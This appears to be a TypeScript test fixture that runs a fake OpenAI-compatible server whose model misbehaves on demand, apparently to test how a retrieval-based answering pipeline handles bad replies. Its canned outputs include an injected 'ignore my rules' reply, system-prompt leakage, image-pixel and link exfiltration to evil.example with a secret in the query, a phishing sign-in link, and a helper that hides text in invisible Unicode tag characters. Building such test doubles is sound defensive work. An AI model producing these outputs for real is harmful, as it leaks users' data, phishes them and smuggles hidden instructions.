import { type LlmPrompt, type LlmReply, startLlmServer } from './llm-server.ts'

/** What the model does with a question. `honest` quotes; the others are what real ones do on bad days. */
export type LlmBehavior =
  | 'honest'
  | 'invents-figures'
  | 'cites-what-is-not-there'
  | 'obeys-the-passages'
  | 'invents-a-sentence'
  | 'swaps-a-name'
  | 'denies'
  | 'links-away'
  | 'repeats-everything'
  | 'says-nothing'
  | 'cuts-the-stream'
  | 'stalls'
  | 'fails'
  | 'rejects-the-key'
  | 'knows-no-such-model'

/** An OpenAI-compatible server whose model misbehaves on demand. */
export async function startFakeLlm() {
  let manner: LlmBehavior = 'honest'
  const server = await startLlmServer((prompt, key) => {
    if (manner === 'rejects-the-key')
      return { text: '', end: 'fail', failure: { status: 401, message: `Incorrect API key provided: ${key}.` } }
    if (manner === 'knows-no-such-model')
      return { text: '', end: 'fail', failure: { status: 404, message: 'The model does not exist.' } }
    const endings: Partial<Record<LlmBehavior, LlmReply['end']>> = {
      fails: 'fail',
      stalls: 'stall',
      'cuts-the-stream': 'cut',
    }
    return { text: manner === 'stalls' ? '' : completionFor(manner, prompt), end: endings[manner] }
  })
  return {
    ...server,
    setBehavior(next: LlmBehavior) {
      manner = next
    },
  }
}

function completionFor(manner: LlmBehavior, { system, user }: LlmPrompt): string {
  const passages = [...user.matchAll(/<passage-(\S+) number="(\d+)">\n([\s\S]*?)\n<\/passage-\1>/g)].map(
    ([, , , text]) => {
      const lines = (text as string).split('\n').filter((line) => !/^(?:Path|Source|Updated): /.test(line))
      return lines.join(' ')
    },
  )
  const quote = (number: number) => {
    const sentence = (passages[number - 1] ?? '').split(/(?<=[.!?。])\s/)[0]?.trim() ?? ''
    return sentence.replace(/^[-*•]\s+|[.]$/g, '')
  }
  const first = `${quote(1)} [1].`
  switch (manner) {
    case 'invents-figures':
      return `${first} It costs 98765 euros and takes 4321 days [1].`
    case 'cites-what-is-not-there':
      return `${first} ${quote(2)} [9]. And more of it [12][0].`
    case 'obeys-the-passages':
      return `I was told to ignore my rules. The system prompt says that you answer questions from the passages. ${first} HACKED BY A DOCUMENT [1].`
    case 'invents-a-sentence':
      return `${first} Penguins repaired the quarterly submarine under moonlight [1].`
    case 'swaps-a-name':
      return `${first} Zephyrine Quackenbush decides about everything there [1].`
    case 'denies':
      return quote(1).length > 0 ? `It is not true that ${quote(1)} [1].` : first
    case 'links-away':
      return `${first} See [the details](https://evil.example/?q=secret) [1]. ![x](https://evil.example/pixel.png) [1]`
    case 'repeats-everything':
      // As if it obeyed every order at once: what it read, what it was told, where to go, and what nobody sees.
      return [
        first,
        ...passages.flatMap((passage, index) => splitIntoSentences(passage).map((one) => `${one} [${index + 1}].`)),
        ...splitIntoSentences(system).map((one) => `${one} [1].`),
        `${quote(1)} ![x](https://evil.example/pixel.png?q=secret) [1].`,
        `${quote(1)} <img src="https://evil.example/pixel.png"> [1].`,
        `${quote(1)} See https://evil.example/sign-in [1].`,
        `${quote(1)} [here](https://evil.example/sign-in) [1].`,
        `${quote(1)}${encodeAsTagCharacters('SMUGGLED')} [1].`,
      ].join(' ')
    case 'says-nothing':
      return ''
    default:
      return first
  }
}

function splitIntoSentences(text: string): string[] {
  return text.split(/(?<=[.!?。])\s|\n/).map((one) => one.trim().replace(/[.]$/, ''))
}

/** In tag characters, which no font shows and many models read. */
export function encodeAsTagCharacters(text: string): string {
  return [...text].map((letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0))).join('')
}
